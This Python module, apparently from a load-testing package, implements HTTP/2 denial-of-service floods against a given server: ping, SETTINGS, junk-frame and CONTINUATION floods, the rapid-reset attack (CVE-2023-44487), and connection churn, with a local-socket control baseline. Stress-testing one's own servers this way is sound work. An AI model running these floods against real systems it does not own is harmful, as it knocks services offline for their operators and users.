"""Attacks that send as fast as the server takes it: frames that cost the sender nothing."""

import contextlib
import selectors
import socket
import struct
import threading
from collections.abc import Callable, Iterable
from dataclasses import replace
from itertools import repeat

from loadtest.attack.field import Counts, Field, GoesOn, in_threads
from loadtest.attack.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW,
    ONE_IMAGE,
    PING,
    PRIORITY,
    READ_BYTES,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    frame,
    literal,
    opening,
    request_headers,
    reset,
    setting,
)

CONNECTIONS = 4
BLOCK = 200  # frames sent at once
STREAMS = 10_000  # of a connection, before the next


def pings(field: Field) -> Counts:
    """Sends pings without end; half of the connections never read the answers."""
    block = frame(PING, 0, 0, b"12345678") * BLOCK
    return _flood(field, "pings", lambda _rank: repeat(block), odd_ones_read=False)


def settings(field: Field) -> Counts:
    """Sends settings without end, which must be acknowledged; half of the connections never read."""
    block = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65535)) * BLOCK
    return _flood(field, "settings", lambda _rank: repeat(block), odd_ones_read=False)


def frames(field: Field) -> Counts:
    """Sends frames that mean nothing or little, another kind on each connection."""
    kinds = [
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"),
        frame(0x77, 0, 0, b"x" * 100),  # no kind that there is
        frame(DATA, 0, 1),  # empty
        frame(GOAWAY, 0, 0, bytes(8)),
        frame(RST_STREAM, 0, 9999, bytes(4)),  # a stream that never was
        frame(SETTINGS, ACK),
    ]
    return _flood(field, "frames", lambda rank: repeat(kinds[rank] * BLOCK), first=opening(1), connections=len(kinds))


def continuations(field: Field) -> Counts:
    """Sends header blocks that never end: full continuations on half of the connections, empty ones on the others."""
    full = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BLOCK
    empty = frame(CONTINUATION, 0, 1) * BLOCK
    first = frame(HEADERS, 0, 1, request_headers())
    return _flood(field, "frames", lambda rank: repeat(empty if rank % 2 else full), first=first)


def rapid_resets(field: Field) -> Counts:
    """Opens streams and cancels them at once (CVE-2023-44487)."""
    blocks = _stream_blocks(lambda stream: opening(stream) + reset(stream))
    return _flood(field, "streams", lambda _rank: blocks)


def resets_after_data(field: Field) -> Counts:
    """Sends whole requests that are cancelled at once."""

    def request(stream: int) -> bytes:
        return opening(stream) + frame(DATA, END_STREAM, stream, ONE_IMAGE) + reset(stream)

    blocks = _stream_blocks(request, STREAMS // 20)
    return _flood(field, "streams", lambda _rank: blocks)


def unknown_paths(field: Field) -> Counts:
    """Calls methods that the server does not have."""
    headers = request_headers(b"/no.such.Service/Method")
    blocks = _stream_blocks(lambda stream: opening(stream, headers, END_STREAM | END_HEADERS))
    return _flood(field, "streams", lambda _rank: blocks)


def churn(field: Field) -> Counts:
    """Makes connections and drops them at once."""

    def work(_rank: int, counts: Counts, _goes_on: GoesOn) -> None:
        Connection(field.address).close()
        counts["connections"] += 1

    return in_threads(CONNECTIONS, field, work, "connections")


def control(field: Field) -> Counts:
    """Floods a socket of this process, which no server sees: what it costs others is the machine's fault."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        sink = threading.Thread(target=_swallow, args=(listener, field))
        sink.start()
        counts = pings(replace(field, address=listener.getsockname()))
        sink.join()
    return counts


def _swallow(listener: socket.socket, field: Field) -> None:
    """Reads all that comes on all connections to it, until nothing does."""
    with selectors.DefaultSelector() as selector, contextlib.ExitStack() as stack:
        selector.register(listener, selectors.EVENT_READ)
        while (ready := selector.select(0.3)) or field.goes_on(field.size):
            for key, _ in ready:
                if key.fileobj is listener:
                    selector.register(stack.enter_context(listener.accept()[0]), selectors.EVENT_READ)
                elif isinstance(key.fileobj, socket.socket) and not key.fileobj.recv(READ_BYTES):
                    selector.unregister(key.fileobj)


def _stream_blocks(make: Callable[[int], bytes], streams: int = STREAMS) -> list[bytes]:
    """Makes what one connection sends, in blocks: each of its streams has a number of its own."""
    numbers = range(1, 2 * streams, 2)
    return [b"".join(map(make, numbers[start : start + BLOCK])) for start in range(0, streams, BLOCK)]


def _flood(
    field: Field,
    unit: str,
    blocks_of: Callable[[int], Iterable[bytes]],
    *,
    first: bytes = b"",
    connections: int = CONNECTIONS,
    odd_ones_read: bool = True,
) -> Counts:
    """Sends on each connection `first` and its blocks, of BLOCK units each; one that ends, or is done, is replaced."""

    def work(rank: int, counts: Counts, goes_on: GoesOn) -> None:
        with Connection(field.address) as connection:
            counts["connections"] += 1
            connection.send(first)
            for block in blocks_of(rank):
                if not (goes_on() and connection.send(block)):
                    return
                counts[unit] += BLOCK
                if (odd_ones_read or rank % 2 == 0) and not connection.skip():
                    return

    return in_threads(connections, field, work, unit)
